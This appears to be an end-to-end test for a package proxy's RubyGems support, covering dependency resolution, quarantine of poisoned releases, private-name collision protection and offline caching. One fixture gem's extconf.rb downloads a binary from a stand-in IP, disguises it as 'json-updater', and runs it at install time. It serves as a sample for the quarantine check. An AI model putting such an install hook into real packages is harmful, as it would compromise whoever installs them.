/**
 * gem 3.3 and bundler 2.3 (Debian 12) through a virtual repository (acme/gems-all =
 * acme/gems-hosted + acme/gems-remote, whose upstream is another Stockade server): a dependency
 * tree installs with both clients; a poisoned upstream release is quarantined on first download
 * and the previous version installs next time; a private gem whose name the upstream also
 * offers, with a higher version, installs as the private one without the upstream being asked
 * for it, and the collision is recorded and audited; what was fetched keeps installing when the
 * upstream is gone.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { systemActor } from '../../src/domain/audit.js';
import { assertRubyInstalled, buildGem, type FixtureGem } from '../formats/rubygems/build-gem.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { assertFailed, assertOk, runCommand, type RunResult } from './clients.js';

const lib = (name: string, version: string, body = ''): Record<string, string> => ({ [`lib/${name}.rb`]: `# ${name} ${version}\n${body}` });

const leaf10: FixtureGem = { name: 'e2e-leaf', version: '1.0.0', files: lib('e2e-leaf', '1.0.0') };
const leaf12: FixtureGem = { name: 'e2e-leaf', version: '1.2.0', files: lib('e2e-leaf', '1.2.0') };
const mid: FixtureGem = { name: 'e2e-mid', version: '1.0.0', files: lib('e2e-mid', '1.0.0'), dependencies: [{ name: 'e2e-leaf', type: 'runtime', requirements: ['~> 1.0'] }] };
const top: FixtureGem = { name: 'e2e-top', version: '2.0.0', files: lib('e2e-top', '2.0.0'), dependencies: [{ name: 'e2e-mid', type: 'runtime', requirements: ['>= 1.0'] }] };
const victimGood: FixtureGem = { name: 'e2e-victim', version: '1.0.0', files: lib('e2e-victim', '1.0.0') };
/** A release whose extension downloads and runs a binary: what the default policy holds back. */
const victimBad: FixtureGem = {
  name: 'e2e-victim',
  version: '1.0.1',
  extensions: ['ext/e2e_victim/extconf.rb'],
  files: {
    ...lib('e2e-victim', '1.0.1'),
    'ext/e2e_victim/extconf.rb': [
      'require "net/http"',
      'bin = File.join(Dir.home, ".cache", "json-updater")',
      'File.binwrite(bin, Net::HTTP.get(URI("http://203.0.113.7/u.bin")))',
      'File.chmod(0755, bin)',
      'system(bin)',
      'File.write("Makefile", "all:\\ninstall:\\n")',
      '',
    ].join('\n'),
  },
};
/** The attack: the name the company uses privately, published upstream with a higher version. */
const widgetUpstream: FixtureGem = { name: 'acme-widget', version: '9.0.0', files: lib('acme-widget', '9.0.0', 'NOT_OURS = true\n') };
const widgetPrivate: FixtureGem = { name: 'acme-widget', version: '1.0.0', files: lib('acme-widget', '1.0.0', 'OURS = true\n') };

describe('gem and bundler through a RubyGems virtual repository', () => {
  let upstream: TestServer;
  let proxy: TestServer;
  let root = '';
  let source = '';
  let upstreamClosed = false;
  const upstreamLog: string[] = [];
  const built = new Map<FixtureGem, Buffer>();

  function rubyEnv(dir: string): Record<string, string> {
    return {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      HOME: dir,
      GEM_HOME: path.join(dir, 'gems'),
      GEM_PATH: path.join(dir, 'gems'),
      GEM_SPEC_CACHE: path.join(dir, 'spec-cache'),
      BUNDLE_USER_HOME: path.join(dir, 'bundle-home'),
      BUNDLE_APP_CONFIG: path.join(dir, 'bundle-config'),
      BUNDLE_PATH: path.join(dir, 'bundle'),
      BUNDLE_DISABLE_VERSION_CHECK: 'true',
      LC_ALL: 'C.UTF-8',
    };
  }

  async function sandbox(label: string): Promise<string> {
    const dir = await mkdtemp(path.join(root, `${label}-`));
    await mkdir(path.join(dir, 'work'));
    return dir;
  }

  function run(command: string, args: string[], dir: string, extra: Record<string, string> = {}): Promise<RunResult> {
    return runCommand(command, args, { ...rubyEnv(dir), ...extra }, { cwd: path.join(dir, 'work'), timeoutMs: 180_000 });
  }

  const gemInstall = (dir: string, name: string, extra: string[] = []) => run('gem', ['install', name, '--clear-sources', '--source', source, '--no-document', ...extra], dir);

  async function bundleInstall(dir: string, gemLines: string[]): Promise<RunResult> {
    await writeFile(path.join(dir, 'work', 'Gemfile'), `source "${source}"\n${gemLines.join('\n')}\n`);
    await rm(path.join(dir, 'work', 'Gemfile.lock'), { force: true });
    return run('bundle', ['install'], dir);
  }

  const lockfile = (dir: string) => readFile(path.join(dir, 'work', 'Gemfile.lock'), 'utf8');

  /** Request paths the upstream server logged (it logs every request). */
  const upstreamPaths = () =>
    upstreamLog.flatMap((line) => {
      const entry = JSON.parse(line) as { msg?: string; path?: string };
      return entry.msg === 'request' && entry.path ? [entry.path] : [];
    });

  async function pushUpstream(gem: FixtureGem): Promise<void> {
    const response = await fetch(`${upstream.url}/corp/gems/rubygems/api/v1/gems`, {
      method: 'POST',
      headers: { authorization: upstream.adminToken, 'content-type': 'application/octet-stream' },
      body: built.get(gem) as Buffer,
    });
    assert.equal(response.status, 200, await response.text());
  }

  async function createRepo(body: Record<string, unknown>): Promise<void> {
    const answer = await fetch(`${proxy.url}/api/v1/repos`, {
      method: 'POST',
      headers: { authorization: `Bearer ${proxy.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ owner: 'acme', visibility: 'public', ...body }),
    });
    assert.equal(answer.status, 201, await answer.text());
  }

  before(async () => {
    assertRubyInstalled();
    const check = spawnSync('bundle', ['--version'], { encoding: 'utf8' });
    if (check.error !== undefined || check.status !== 0) throw new Error('bundle is needed by these tests: install the Debian package bundler');
    root = await mkdtemp(path.join(tmpdir(), 'stockade-e2e-gem-remote-'));
    const buildDir = await mkdtemp(path.join(root, 'build-'));
    for (const gem of [leaf10, leaf12, mid, top, victimGood, victimBad, widgetUpstream, widgetPrivate]) built.set(gem, buildGem(gem, buildDir));

    upstream = await startTestServer({}, { logLines: upstreamLog });
    const upstreamAdmin = await upstream.domain.accounts.getUser('admin');
    assert.ok(upstreamAdmin);
    await upstream.domain.accounts.createOrg(systemActor, { name: 'corp', adminUserId: upstreamAdmin.id });
    await upstream.createRepo('corp', 'gems');
    // The upstream takes anything: judging what it serves is the proxy's job.
    const policy = await fetch(`${upstream.url}/api/v1/repos/corp/gems/policy`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${upstream.adminToken}`, 'content-type': 'application/json' },
      body: JSON.stringify({ version: 1, onAnalyzerFailure: 'allow', defaultAction: 'allow', rules: [] }),
    });
    assert.equal(policy.status, 200, await policy.text());
    for (const gem of [leaf10, leaf12, mid, top, victimGood, victimBad, widgetUpstream]) await pushUpstream(gem);

    proxy = await startTestServer();
    const proxyAdmin = await proxy.domain.accounts.getUser('admin');
    assert.ok(proxyAdmin);
    await proxy.domain.accounts.createOrg(systemActor, { name: 'acme', adminUserId: proxyAdmin.id });
    await createRepo({ name: 'gems-remote', kind: 'remote', upstream: { format: 'rubygems', url: `${upstream.url}/corp/gems/rubygems`, retries: 0 } });
    await createRepo({ name: 'gems-hosted' });
    await createRepo({ name: 'gems-all', kind: 'virtual', virtual: { format: 'rubygems', members: ['acme/gems-hosted', 'acme/gems-remote'] } });
    source = `${proxy.url}/acme/gems-all/rubygems/`;
  });

  after(async () => {
    await proxy?.close();
    if (!upstreamClosed) await upstream?.close();
    if (root) await rm(root, { recursive: true, force: true });
  });

  it('gem install resolves a dependency tree through the virtual repository', async () => {
    const dir = await sandbox('gem-tree');
    const result = assertOk(await gemInstall(dir, 'e2e-top'));
    assert.match(result.stdout, /Successfully installed e2e-leaf-1\.2\.0/);
    assert.match(result.stdout, /Successfully installed e2e-mid-1\.0\.0/);
    assert.match(result.stdout, /Successfully installed e2e-top-2\.0\.0/);
    // Stored in the remote member, published by the upstream.
    const member = await proxy.domain.repos.get('acme', 'gems-remote');
    const pkg = await proxy.domain.packages.load({ repo: member!, format: 'rubygems', name: 'e2e-top' });
    assert.match(pkg?.versions[0]?.publisher ?? '', /^upstream:127\.0\.0\.1:\d+$/);
  });

  it('bundle install resolves the same tree through the compact index and checks the checksums', async () => {
    const dir = await sandbox('bundle-tree');
    const result = assertOk(await bundleInstall(dir, ['gem "e2e-top"']));
    assert.match(result.stdout, /Bundle complete/);
    const lock = await lockfile(dir);
    assert.match(lock, /^ {4}e2e-leaf \(1\.2\.0\)$/m);
    assert.match(lock, /^ {4}e2e-mid \(1\.0\.0\)$/m);
    assert.match(lock, /^ {4}e2e-top \(2\.0\.0\)$/m);
  });

  it('a poisoned upstream release is quarantined on first download; the previous version installs', async () => {
    const dir = await sandbox('victim');
    const first = assertFailed(await bundleInstall(dir, ['gem "e2e-victim"']));
    assert.match(first.stdout + first.stderr, /403|quarantined/i);
    // The same bundler cache: /versions makes it ask /info again, which no longer lists 1.0.1.
    assertOk(await bundleInstall(dir, ['gem "e2e-victim"']));
    assert.match(await lockfile(dir), /^ {4}e2e-victim \(1\.0\.0\)$/m);
    const gemDir = await sandbox('victim-gem');
    assert.match(assertOk(await gemInstall(gemDir, 'e2e-victim')).stdout, /Successfully installed e2e-victim-1\.0\.0/);
    const member = await proxy.domain.repos.get('acme', 'gems-remote');
    const held = await proxy.domain.packages.findFile({ repo: member!, format: 'rubygems', name: 'e2e-victim' }, 'e2e-victim-1.0.1.gem');
    assert.equal(held?.status, 'quarantined');
  });

  it('a private gem wins over a higher upstream version of its name, the upstream is never asked for it, and the collision is audited', async () => {
    const dir = await sandbox('private');
    const key = proxy.adminToken;
    const gemFile = path.join(dir, 'work', 'acme-widget-1.0.0.gem');
    await writeFile(gemFile, built.get(widgetPrivate) as Buffer);
    assertOk(await run('gem', ['push', '--host', `${proxy.url}/acme/gems-hosted/rubygems`, gemFile], dir, { GEM_HOST_API_KEY: key }));
    await rm(gemFile);

    assertOk(await bundleInstall(dir, ['gem "acme-widget"']));
    assert.match(await lockfile(dir), /^ {4}acme-widget \(1\.0\.0\)$/m);
    const gemDir = await sandbox('private-gem');
    const installed = assertOk(await gemInstall(gemDir, 'acme-widget'));
    assert.match(installed.stdout, /Successfully installed acme-widget-1\.0\.0/);
    assert.ok(upstreamPaths().includes('/corp/gems/rubygems/info/e2e-top'), 'the upstream log shows what the proxy asked');
    assert.deepEqual(
      upstreamPaths().filter((p) => p.includes('acme-widget')),
      [],
    );

    const listed = await fetch(`${proxy.url}/api/v1/repos/acme/gems-all/collisions`, { headers: { authorization: `Bearer ${proxy.adminToken}` } });
    const rows = (await listed.json()) as { name: string; remote: string; reason: string; upstream: { newest: string } }[];
    assert.deepEqual(
      rows.map((r) => [r.name, r.remote, r.reason, r.upstream.newest]),
      [['acme-widget', 'acme/gems-remote', 'hosted', '9.0.0']],
    );
    const audit = await proxy.domain.db.selectFrom('audit_log').select(['target', 'details']).where('action', '=', 'repo.collision').execute();
    assert.equal(audit.length, 1);
    assert.equal(audit[0]?.target, 'repo:acme/gems-all');
    assert.match(audit[0]?.details ?? '', /"name":"acme-widget","remote":"acme\/gems-remote","reason":"hosted"/);
  });

  it('what was fetched keeps installing when the upstream is gone', async () => {
    await upstream.close();
    upstreamClosed = true;
    const dir = await sandbox('gone');
    assert.match(assertOk(await gemInstall(dir, 'e2e-top')).stdout, /Successfully installed e2e-top-2\.0\.0/);
    assertOk(await bundleInstall(dir, ['gem "e2e-top"']));
    assert.match(await lockfile(dir), /^ {4}e2e-top \(2\.0\.0\)$/m);
  });
});
